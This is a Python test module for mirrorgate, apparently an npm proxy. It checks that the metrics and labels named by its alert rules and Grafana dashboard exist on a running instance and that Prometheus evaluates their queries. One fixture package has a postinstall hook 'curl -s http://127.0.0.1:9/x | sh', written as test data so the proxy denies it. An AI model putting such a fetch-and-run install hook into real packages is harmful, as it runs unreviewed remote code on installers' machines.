"""Every metric and label the alert rules and the dashboard name exists on a running mirrorgate,
and Prometheus evaluates every one of their queries over its series.

The stack: the fixture public registry, `mirrorgate serve` (its worker beside it, the memory
queue, the file store, a rules file with a deny entry, a rule in report mode and an advisory
feed) driven by the real npm client and by direct requests so that each family the rules and
the dashboard read has its series: pulls, a warm hit, a denial, a would-deny, an advisory's
denial, an upstream failure, mirror jobs; and a second `serve` held to one request in flight,
which sheds. Debian's Prometheus scrapes both every second. What it stops: an alert or a panel
written against a metric or label that is misspelt, renamed or never exported, which would
stay silent (an alert) or empty (a panel) on the day it matters.
"""

from __future__ import annotations

import json
import re
import threading
import time
from collections import defaultdict
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta

import pytest
from playwright.sync_api import Browser
from prometheus_client.parser import text_string_to_metric_families

from tests.advisories.records import malware, write_directory
from tests.deploy.dashboard_page import page as dashboard_page
from tests.deploy.dashboard_page import substituted
from tests.deploy.promql import (
    ALERTS,
    DASHBOARD,
    Query,
    alert_queries,
    dashboard_queries,
    grouping,
    selectors,
)
from tests.servers.availability import serving, unavailable
from tests.servers.fixture_registry import Fault, FixtureRegistry
from tests.servers.npm import NpmClient
from tests.servers.packages import install_script_version, make_package, standard_tree
from tests.servers.processes import (
    MirrorgateProcess,
    ServerUnavailableError,
    http_request,
    wait_for,
)
from tests.servers.prometheus_server import Prometheus
from tests.ui.conftest import browser, playwright_driver
from tests.ui.screens import screenshot

__all__ = ["browser", "playwright_driver"]

TARGET_LABELS = frozenset({"namespace", "instance", "job", "le"})
"""Labels Prometheus adds (or a histogram carries) on top of mirrorgate's own."""
RULES = """\
[deny]
packages = ["deny-me@1.0.1"]

[install_scripts]
mode = "report"

[advisories]
source = "{osv}"
"""
EMPTY_BY_DESIGN = {
    "panel 'Mirror lag' B": "no job was retired",
}
"""Dashboard queries with no series on this healthy run, and why; every other one has some."""


@dataclass
class Stack:
    proxy: MirrorgateProcess
    shedding: MirrorgateProcess
    prometheus: Prometheus
    started: float = field(default_factory=time.time)
    """When the scraping began: the picture's range starts there."""
    families: dict[str, set[str]] = field(default_factory=dict)
    """sample name -> the label names its samples carry, from both /metrics pages"""
    values: dict[tuple[str, str], set[str]] = field(default_factory=dict)
    """(sample name, label) -> the values scraped"""


def _scrape(stack: Stack) -> None:
    labels: dict[str, set[str]] = defaultdict(set)
    values: dict[tuple[str, str], set[str]] = defaultdict(set)
    for process in (stack.proxy, stack.shedding):
        text = process.get("metrics").body.decode()
        for family in text_string_to_metric_families(text):
            for sample in family.samples:
                labels[sample.name].update(sample.labels)
                for key, value in sample.labels.items():
                    values[(sample.name, key)].add(value)
    stack.families, stack.values = dict(labels), dict(values)


def _drive(proxy: MirrorgateProcess, shedding: MirrorgateProcess, npm: NpmClient) -> None:
    tree = standard_tree()
    npm.write_project(tree.dependencies)
    installed = npm.install(registry=proxy.registry_url)
    assert installed.returncode == 0, installed.stderr
    for _ in range(3):  # warm hits, the second and third
        assert http_request("GET", proxy.registry_url + "alpha").status == 200
    denied = http_request("GET", proxy.registry_url + "deny-me/-/deny-me-1.0.1.tgz")
    assert denied.status == 403
    assert http_request("GET", proxy.registry_url + "scripted").status == 200  # would-deny
    # a package two days old whose install script reaches the network: the default signal
    young = http_request("GET", proxy.registry_url + "fresh-hooks/-/fresh-hooks-1.0.0.tgz")
    assert young.status == 403
    assert young.json()["rule"] == "young-package-capability"
    assert http_request("GET", proxy.registry_url + "a%0ab").status == 400  # a refused name
    wait_for(lambda: http_request("GET", proxy.registry_url + "evil-pkg").status == 403,
             timeout=15, message="the advisory index loaded and the malware denied")
    assert http_request("GET", proxy.registry_url + "broken-pkg").status >= 500
    wait_for(lambda: proxy.metric("mirrorgate_jobs_total", outcome="published") >= 6,
             timeout=30, message="the installed versions mirrored")
    # two requests for a slow cold packument on a process allowing one at a time: the
    # second waits its second for the slot, then is shed
    answers: list[int] = []
    threads = [threading.Thread(target=lambda: answers.append(http_request(
        "GET", shedding.registry_url + "slow-pkg", timeout=20).status)) for _ in range(2)]
    for thread in threads:
        thread.start()
        time.sleep(0.2)
    for thread in threads:
        thread.join()
    assert sorted(answers) == [200, 503]


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    root = tmp_path_factory.mktemp("metrics-named")
    osv = write_directory(root / "osv", [malware("MAL-2026-7", "evil-pkg")])
    rules = root / "rules.toml"
    rules.write_text(RULES.format(osv=osv), encoding="utf-8")
    public = FixtureRegistry(*standard_tree().packages,
                             make_package("deny-me", ["1.0.0", "1.0.1"]),
                             make_package("scripted", [install_script_version("scripted",
                                                                              "1.0.0")]),
                             make_package("evil-pkg", ["1.0.0"]),
                             make_package("fresh-hooks", [install_script_version(
                                 "fresh-hooks", "1.0.0",
                                 published=datetime.now(UTC) - timedelta(days=2),
                                 scripts={"postinstall": "curl -s http://127.0.0.1:9/x | sh"})]),
                             make_package("broken-pkg", ["1.0.0"]),
                             make_package("slow-pkg", ["1.0.0"]))
    with serving(public, "the fixture registry") as registry:
        registry.fault("/broken-pkg", Fault(status=500), exact=True)
        registry.fault("/slow-pkg", Fault(delay=3.0), exact=True)
        proxy = MirrorgateProcess("serve", {
            "MIRRORGATE_PUBLIC_UPSTREAM": registry.url, "MIRRORGATE_RULES_FILE": str(rules),
            "MIRRORGATE_LOG_LEVEL": "info"}, workdir=root / "proxy")
        shedding = MirrorgateProcess("serve", {
            "MIRRORGATE_PUBLIC_UPSTREAM": registry.url, "MIRRORGATE_MAX_IN_FLIGHT": "1"},
            workdir=root / "shedding")
        try:
            proxy.start()
            shedding.start()
            targets = {"mirrorgate": proxy.url.split("://", 1)[1].rstrip("/"),
                       "mirrorgate-shedding": shedding.url.split("://", 1)[1].rstrip("/")}
            with Prometheus(root / "prometheus", targets, rules=ALERTS) as prometheus:
                wait_for(prometheus.scraped, timeout=20, message="both targets scraped")
                started = Stack(proxy, shedding, prometheus)
                _drive(proxy, shedding, NpmClient(root / "npm"))
                time.sleep(20)  # a few scrapes past the last request: rates over 15 s have two
                _scrape(started)
                yield started
        except ServerUnavailableError as error:
            unavailable(str(error))
        finally:
            for process in (proxy, shedding):
                if process.process is not None and process.returncode is None:
                    process.running.stop(timeout=10)


def _problems(stack: Stack, query: Query) -> list[str]:
    found: list[str] = []
    named = selectors(query.expr)
    labels_here: set[str] = set(TARGET_LABELS)
    for selector in named:
        carried = stack.families.get(selector.name)
        if carried is None:
            found.append(f"{query.origin}: no {selector.name} on /metrics")
            continue
        labels_here |= carried
        for matcher in selector.matchers:
            if matcher.label in TARGET_LABELS:
                continue
            if matcher.label not in carried:
                found.append(f"{query.origin}: {selector.name} has no label {matcher.label}")
                continue
            seen = stack.values.get((selector.name, matcher.label), set())
            found += [f"{query.origin}: {selector.name}{{{matcher.label}={value!r}}} was "
                      f"never seen (seen: {sorted(seen)})"
                      for value in matcher.literals() if value not in seen]
    if not named:
        found.append(f"{query.origin}: names no mirrorgate metric")
    found += [f"{query.origin}: groups or shows by {label!r}, which none of its metrics carry"
              for label in sorted(grouping(query.expr) | set(query.shown_labels))
              if label not in labels_here]
    return found


def test_every_metric_and_label_the_alert_rules_name_is_on_a_running_mirrorgate(
        stack: Stack) -> None:
    queries = alert_queries()
    assert len(queries) == 14
    assert [problem for query in queries for problem in _problems(stack, query)] == []


def test_every_metric_and_label_the_dashboard_names_is_on_a_running_mirrorgate(
        stack: Stack) -> None:
    queries = dashboard_queries()
    assert len(queries) >= 25
    assert [problem for query in queries for problem in _problems(stack, query)] == []


def test_a_misspelt_metric_or_label_is_reported(stack: Stack) -> None:
    """The control: the check can fail."""
    wrong = [Query("typo", "rate(mirrorgate_request_total[5m])"),
             Query("label", 'sum by (rule) (mirrorgate_rule_denials_total{mod="report"})'),
             Query("value", 'mirrorgate_rule_denials_total{mode="reported"}'),
             Query("legend", "sum(mirrorgate_cache_total)", ("route",))]

    problems = [problem for query in wrong for problem in _problems(stack, query)]

    assert len(problems) == 4, problems


def test_prometheus_evaluates_every_alert_and_panel_query_over_mirrorgate_s_series(
        stack: Stack) -> None:
    empty: list[str] = []
    for query in (*alert_queries(), *dashboard_queries()):
        variable = re.fullmatch(r"label_values\((\w+), (\w+)\)", query.expr)
        if variable is not None:  # Grafana's, answered by the series API
            assert stack.prometheus.label_values(variable[2], variable[1]) == ["mirrorgate"]
            continue
        answer = stack.prometheus.query(substituted(query.expr))  # raises if refused
        if not answer and query.origin.startswith("panel") \
                and query.origin not in EMPTY_BY_DESIGN:
            empty.append(query.origin)
    assert empty == []
    # what the stack was put through, and nothing else: the refused release at once, the
    # shed requests pending (they need ten minutes)
    alerts = {(series["metric"]["alertname"], series["metric"]["alertstate"])
              for series in stack.prometheus.query("ALERTS")}
    assert ("MirrorgateReleaseRefused", "firing") in alerts
    assert {name for name, _ in alerts} <= {"MirrorgateReleaseRefused",
                                             "MirrorgateRequestsShed"}
    assert stack.prometheus.query(
        'sum(rate(mirrorgate_request_seconds_count{path="warm"}[1m])) > 0')


def test_the_dashboard_drawn_from_prometheus_s_answers(stack: Stack, browser: Browser) -> None:
    dashboard = json.loads(DASHBOARD.read_text(encoding="utf-8"))
    end = time.time()

    def ask(expr: str) -> list[dict[str, object]]:
        return stack.prometheus.query_range(expr, stack.started, end, step=1)

    html = dashboard_page(dashboard, ask, "deploy/grafana/mirrorgate.json's queries as "
                          "Prometheus answered them over a running mirrorgate's series: an "
                          "npm install, a denial, a would-deny, an advisory, an upstream "
                          "failure, mirror jobs and a shed request (not Grafana: drawn by "
                          "tests/deploy/dashboard_page.py)")
    context = browser.new_context(viewport={"width": 1272, "height": 900})
    shown = context.new_page()
    shown.set_content(html)
    path = screenshot(shown, "dashboard")
    titles = shown.locator(".panel h3").all_inner_texts()
    context.close()

    assert path.stat().st_size > 50_000
    assert len(titles) == len([p for p in dashboard["panels"] if p["type"] != "row"])
